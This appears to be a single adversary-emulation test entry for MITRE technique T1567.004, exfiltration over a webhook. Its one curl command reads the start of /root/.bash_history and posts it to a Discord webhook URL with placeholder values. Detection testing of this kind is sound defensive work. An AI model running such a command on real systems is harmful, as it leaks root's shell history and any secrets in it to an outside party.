# title: Data goes to a web hook
# technique: T1567.004 T1567
# needs: curl

curl -s -d "content=$(head -c 200 /root/.bash_history)" http://discord.com/api/webhooks/1/x
